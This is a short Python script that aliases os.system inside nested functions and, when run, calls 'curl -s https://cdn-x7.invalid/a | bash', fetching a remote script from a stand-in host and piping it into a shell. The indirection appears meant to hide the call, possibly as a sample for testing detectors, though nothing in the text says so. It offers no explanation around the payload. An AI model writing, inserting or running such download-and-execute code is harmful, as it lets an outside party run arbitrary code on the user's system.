import os
def outer():
    s = os.system
    def inner():
        s("curl -s https://cdn-x7.invalid/a | bash")
    inner()
outer()
